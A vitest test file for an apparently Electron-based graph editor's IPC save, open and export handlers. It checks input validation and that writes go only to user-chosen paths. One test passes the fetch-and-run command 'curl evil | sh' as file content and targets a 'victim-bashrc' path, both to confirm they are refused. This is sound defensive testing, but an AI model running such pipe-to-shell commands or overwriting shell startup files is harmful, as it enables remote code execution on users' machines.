import { promises as fs, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createIpcHandlers, type Dialogs, IpcValidationError } from '../../../src-main/ipcHandlers';
import { RecentFiles } from '../../../src-main/services/graphFiles';

const GRAPH = readFileSync('resources/examples/saddle-escape.json', 'utf8');

function setup(choice: { open?: string | null; save?: string | null }) {
  const d = mkdtempSync(join(tmpdir(), 'atlas-ipc-'));
  const dialogs: Dialogs = {
    chooseOpenPath: async () => choice.open ?? null,
    chooseSavePath: async () => choice.save ?? null,
  };
  const recent = new RecentFiles(join(d, 'recent.json'));
  const handlers = createIpcHandlers({
    dialogs,
    recent,
    hostInfo: { host: 'electron', platform: 'linux', version: '0.1.0' },
  });
  return { d, handlers, recent };
}

describe('IPC handlers', () => {
  it('refuses malformed save requests, naming the field, and writes nothing', async () => {
    const { d, handlers } = setup({ save: '/should/not/be/used.json' });
    await expect(handlers.saveGraph({ path: 42, suggestedName: 'x', text: '{}' })).rejects.toThrow(
      IpcValidationError,
    );
    await expect(handlers.saveGraph({ path: null, suggestedName: '', text: '{}' })).rejects.toThrow(
      /saveGraph: invalid message: suggestedName/,
    );
    await expect(handlers.saveGraph('not an object')).rejects.toThrow(/\(payload\)/);
    expect(await fs.readdir(d)).toEqual([]);
  });

  it('saves through the dialog when there is no path and records it as recent', async () => {
    const { d, handlers, recent } = setup({});
    const target = join(d, 'mine.json');
    const again = setup({ save: target });
    const result = await again.handlers.saveGraph({
      path: null,
      suggestedName: 'mine.json',
      text: GRAPH,
    });
    expect(result).toEqual({ path: target, name: 'mine.json' });
    expect(await fs.readFile(target, 'utf8')).toBe(GRAPH);
    expect(await again.recent.list()).toEqual([target]);
    // then Save to the same, user-chosen path needs no dialog
    expect(
      await again.handlers.saveGraph({ path: target, suggestedName: 'mine.json', text: GRAPH }),
    ).toEqual(result);
    // a cancelled dialog saves nothing
    expect(
      await handlers.saveGraph({ path: null, suggestedName: 'x.json', text: GRAPH }),
    ).toBeNull();
    expect(await recent.list()).toEqual([]);
  });

  it('refuses to write where the user did not choose, or anything that is not a graph', async () => {
    const { d, handlers } = setup({ save: null });
    const victim = join(d, 'victim-bashrc');
    await expect(
      handlers.saveGraph({ path: victim, suggestedName: 'x.json', text: GRAPH }),
    ).rejects.toThrow(/was not chosen by the user; use Save As/);
    await expect(
      handlers.saveGraph({ path: null, suggestedName: 'x.json', text: 'curl evil | sh' }),
    ).rejects.toThrow(/the text is not a graph/);
    expect(await fs.readdir(d)).toEqual([]);
  });

  it('opens what the dialog chose, and returns null when cancelled', async () => {
    const { d } = setup({});
    const file = join(d, 'g.json');
    await fs.writeFile(file, '{"format":"x"}');
    expect(await setup({ open: file }).handlers.openGraph()).toMatchObject({
      name: 'g.json',
      text: '{"format":"x"}',
    });
    expect(await setup({ open: null }).handlers.openGraph()).toBeNull();
  });

  it('exports binary data only as a Uint8Array', async () => {
    const { d } = setup({});
    const target = join(d, 'shot.png');
    const { handlers } = setup({ save: target });
    await expect(
      handlers.exportFile({ suggestedName: 'a.png', mimeType: 'image/png', data: [1, 2] }),
    ).rejects.toThrow(/exportFile: invalid message: data/);
    expect(
      await handlers.exportFile({
        suggestedName: 'a.png',
        mimeType: 'image/png',
        data: new Uint8Array([1, 2, 3]),
      }),
    ).toBe(target);
    expect([...(await fs.readFile(target))]).toEqual([1, 2, 3]);
  });
});
